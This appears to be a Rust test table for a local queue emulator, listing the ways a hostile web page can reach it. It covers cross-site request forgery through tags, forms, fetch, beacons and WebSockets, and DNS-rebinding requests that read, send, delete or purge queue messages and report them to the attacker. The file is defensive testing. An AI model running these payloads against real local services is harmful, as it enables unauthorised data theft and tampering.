//! What a hostile page can try: one row for each way in which a browser sends a request for a page.
//!
//! In the markup and the scripts `{T}` is the URL of the emulator, `{HOST}` its host and port, `{SEND}` the query that
//! sends a message, `{OWN}` the attacker's own URL. `report` tells the attacker what a page has read.

/// How a page is opened.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Opened {
    Frame,
    /// At the top, for what may happen only there.
    Window,
}

#[derive(Clone, Copy, Debug)]
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) opened: Opened,
    pub(crate) markup: &'static str,
    pub(crate) script: &'static str,
    /// A header of the page.
    pub(crate) header: &'static str,
    /// The page goes away and cannot say that it is done.
    pub(crate) leaves: bool,
}

const fn script(name: &'static str, script: &'static str) -> Attack {
    Attack { name, opened: Opened::Frame, markup: "", script, header: "", leaves: false }
}

const fn markup(name: &'static str, markup: &'static str) -> Attack {
    Attack { markup, ..script(name, "") }
}

const fn window(attack: Attack) -> Attack {
    Attack { opened: Opened::Window, leaves: true, ..attack }
}

const FORM: &str =
    "<input name=Action value=SendMessage><input name=QueueUrl value=victim><input name=MessageBody value=pwned>";

/// Sent by a page of another site.
#[expect(clippy::too_many_lines, reason = "one table of attacks")]
pub(crate) fn from_another_site() -> Vec<(Attack, String)> {
    let plain = [
        script("image", "const i = new Image(); i.src = '{T}/?{SEND}'; document.body.append(i)"),
        markup("script tag", "<script src='{T}/000000000000/victim?Action=DeleteQueue'></script>"),
        markup("style sheet", "<link rel=stylesheet href='{T}/000000000000/victim?Action=PurgeQueue'>"),
        markup("iframe that receives", "<iframe src='{T}/000000000000/victim?Action=ReceiveMessage'></iframe>"),
        markup("button that is an image", "<input type=image src='{T}/?{SEND}'>"),
        markup(
            "drawing",
            "<svg xmlns='http://www.w3.org/2000/svg'><image href='{T}/?{SEND}' width='9' height='9'/></svg>",
        ),
        markup("object", "<object data='{T}/?{SEND}'></object>"),
        markup("CSS background", "<style>body { background: url('{T}/?{SEND}') }</style>text"),
        markup("CSS import", "<style>@import url('{T}/?{SEND}');</style>"),
        markup(
            "CSS font",
            "<style>@font-face { font-family: f; src: url('{T}/?{SEND}') } body { font-family: f }</style>text",
        ),
        markup("prefetch", "<link rel=prefetch href='{T}/?{SEND}'>"),
        markup("preload", "<link rel=preload as=image href='{T}/?{SEND}'>"),
        markup("module", "<script type=module src='{T}/?{SEND}'></script>"),
        script("fetch GET", "await fetch('{T}/?{SEND}', { mode: 'no-cors' })"),
        script(
            "fetch GET with cookies, kept alive, without referrer",
            "await fetch('{T}/?{SEND}', { mode: 'no-cors', \
            referrerPolicy: 'no-referrer', keepalive: true, credentials: 'include' })",
        ),
        script(
            "fetch POST of a form",
            "await fetch('{T}/', { method: 'POST', mode: 'no-cors', \
            body: new URLSearchParams('{SEND}') })",
        ),
        script(
            "fetch POST of a form without referrer",
            "await fetch('{T}/', { method: 'POST', mode: 'no-cors', \
            referrerPolicy: 'no-referrer', body: new URLSearchParams('{SEND}') })",
        ),
        script(
            "fetch POST of text",
            "await fetch('{T}/', { method: 'POST', mode: 'no-cors', \
            body: JSON.stringify({ QueueUrl: 'victim', MessageBody: 'pwned' }) })",
        ),
        script(
            "fetch POST of nothing, to reset",
            "await fetch('{T}/_local-queue/reset', { method: 'POST', mode: 'no-cors' })",
        ),
        script(
            "fetch of JSON, to send and read",
            "const r = await fetch('{T}/', { method: 'POST', headers: \
            { 'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'AmazonSQS.ReceiveMessage' }, \
            body: JSON.stringify({ QueueUrl: 'victim' }) }); await report('read', await r.text())",
        ),
        script(
            "fetch GET with Authorization",
            "const r = await fetch('{T}/?{SEND}', { headers: \
            { authorization: 'AWS4-HMAC-SHA256 Credential=a' } }); await report('read', await r.text())",
        ),
        script(
            "fetch GET, to read messages",
            "const r = await fetch('{T}/_local-queue/queues/victim/messages'); \
            await report('read', await r.text())",
        ),
        script(
            "fetch POST of text, for a fault",
            "await fetch('{T}/_local-queue/faults', { method: 'POST', mode: 'no-cors', \
            body: JSON.stringify({ effect: 'throttle' }) })",
        ),
        script(
            "XMLHttpRequest",
            "await new Promise(r => { const x = new XMLHttpRequest(); x.onloadend = r; \
            x.open('GET', '{T}/?{SEND}'); x.send() })",
        ),
        script(
            "WebSocket",
            "await new Promise(r => { const w = new WebSocket('ws://{HOST}/?{SEND}'); w.onerror = w.onclose = r })",
        ),
        script(
            "EventSource",
            "await new Promise(r => { const e = new EventSource('{T}/?{SEND}'); \
            e.onerror = () => { e.close(); r() } })",
        ),
        script("beacon of a form", "navigator.sendBeacon('{T}/', new URLSearchParams('{SEND}'))"),
        script(
            "beacon of text, for a fault",
            "navigator.sendBeacon('{T}/_local-queue/faults', '{\"effect\":\"throttle\"}')",
        ),
        script(
            "worker",
            "const b = new Blob([`fetch('{T}/?{SEND}', { mode: 'no-cors' }).finally(() => postMessage(1))`]); \
            await new Promise(r => { new Worker(URL.createObjectURL(b)).onmessage = r })",
        ),
        script(
            "redirect of a GET",
            "await fetch('{OWN}/redirect/302/' + encodeURIComponent('{T}/?{SEND}'), { mode: 'no-cors' })",
        ),
        script(
            "redirect of a POST",
            "await fetch('{OWN}/redirect/307/' + encodeURIComponent('{T}/'), { method: 'POST', \
            mode: 'no-cors', body: new URLSearchParams('{SEND}') })",
        ),
        script(
            "ping of a link, to reset",
            "const a = document.createElement('a'); a.href = '#x'; \
            a.ping = '{T}/_local-queue/reset'; document.body.append(a); a.click()",
        ),
        Attack {
            header: "Content-Security-Policy: img-src 'none'; report-uri {T}/_local-queue/reset\r\n",
            ..markup("report of a violated policy, to reset", "<img src='/x.png'>")
        },
        window(script("window that goes there", "location = '{T}/?{SEND}'")),
        window(script("window that goes there with a password", "location = 'http://user:password@{HOST}/?{SEND}'")),
        window(markup("refresh", "<meta http-equiv=refresh content='0;url={T}/?{SEND}'>")),
        Attack { opened: Opened::Window, ..script("another window", "window.open('{T}/?{SEND}')") },
    ];
    let forms = [
        ("form GET", "<form target=f action='{T}/'>", false),
        ("form POST", "<form target=f method=post action='{T}/'>", false),
        (
            "form POST of parts, to reset",
            "<form target=f method=post enctype=multipart/form-data action='{T}/_local-queue/reset'>",
            false,
        ),
        ("form POST in a window", "<form method=post action='{T}/'>", true),
    ];
    let forms = forms.map(|(name, form, is_window)| {
        let attack = script(name, "document.forms[0].submit()");
        let markup = format!("<iframe name=f></iframe>{form}{FORM}</form>");
        (if is_window { window(attack) } else { attack }, markup)
    });
    let text = "<iframe name=f></iframe><form target=f method=post enctype=text/plain action='{T}/'>\
                <input name='{\"QueueUrl\":\"victim\",\"MessageBody\":\"pwned\",\"a\":\"' value='\"}'></form>";
    let sandboxed = format!(
        "<iframe sandbox='allow-scripts allow-forms' srcdoc=\"<form method=post action='{{T}}/'>{FORM}</form>\
         <script>document.forms[0].submit()</script>\"></iframe>"
    );
    let data = "<iframe src=\"data:text/html,<script>fetch('{T}/',{method:'POST',mode:'no-cors',body:new \
                URLSearchParams('{SEND_IN_URL}')})</script>\"></iframe>";
    let mut attacks = plain.map(|attack| (attack, attack.markup.to_owned())).to_vec();
    attacks.extend(forms);
    attacks.push((script("form POST of text that is JSON", "document.forms[0].submit()"), text.to_owned()));
    attacks.push((markup("form POST in a sandbox", ""), sandboxed));
    attacks.push((markup("POST by a page without origin", ""), data.to_owned()));
    attacks
}

/// Sent by a page whose own name leads to the emulator by now.
pub(crate) const AFTER_REBINDING: [Attack; 11] = [
    script(
        "rebinding: GET, to read messages",
        "const r = await fetch('/_local-queue/queues/victim/messages'); \
        await report('read', await r.text())",
    ),
    script(
        "rebinding: GET that says it comes by localhost",
        "const r = await fetch('/_local-queue/queues/victim/messages', \
        { headers: { 'x-forwarded-host': 'localhost', 'forwarded': 'host=localhost' } }); await report('read', await r.text())",
    ),
    script(
        "rebinding: GET with Authorization",
        "const r = await fetch('/?Action=ReceiveMessage&QueueUrl=victim', \
        { headers: { authorization: 'AWS4-HMAC-SHA256 Credential=a' } }); await report('read', await r.text())",
    ),
    script(
        "rebinding: POST of JSON with Authorization",
        "const r = await fetch('/', { method: 'POST', headers: \
        { 'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'AmazonSQS.ReceiveMessage', \
        authorization: 'AWS4-HMAC-SHA256 Credential=a' }, body: JSON.stringify({ QueueUrl: 'victim' }) }); \
        await report('read', await r.text())",
    ),
    script(
        "rebinding: POST of a form with Authorization",
        "await fetch('/', { method: 'POST', headers: \
        { authorization: 'AWS4-HMAC-SHA256 Credential=a' }, body: new URLSearchParams('{SEND}') })",
    ),
    script(
        "rebinding: POST without referrer",
        "await fetch('/', { method: 'POST', referrerPolicy: 'no-referrer', headers: \
        { authorization: 'AWS4-HMAC-SHA256 Credential=a' }, body: new URLSearchParams('{SEND}') })",
    ),
    script(
        "rebinding: POST, to reset",
        "await fetch('/_local-queue/reset', { method: 'POST', headers: \
        { authorization: 'AWS4-HMAC-SHA256 Credential=a' } })",
    ),
    script(
        "rebinding: image",
        "const i = new Image(); i.src = '/000000000000/victim?Action=DeleteQueue'; document.body.append(i)",
    ),
    script("rebinding: beacon", "navigator.sendBeacon('/', new URLSearchParams('{SEND}'))"),
    script(
        "rebinding: WebSocket",
        "await new Promise(r => { const w = new WebSocket('ws://' + location.host + '/?{SEND}'); \
        w.onerror = w.onclose = r })",
    ),
    Attack {
        markup: "<iframe name=f></iframe><form target=f method=post action='/'><input name=Action value=SendMessage>\
                 <input name=QueueUrl value=victim><input name=MessageBody value=pwned></form>",
        ..script("rebinding: form POST", "document.forms[0].submit()")
    },
];
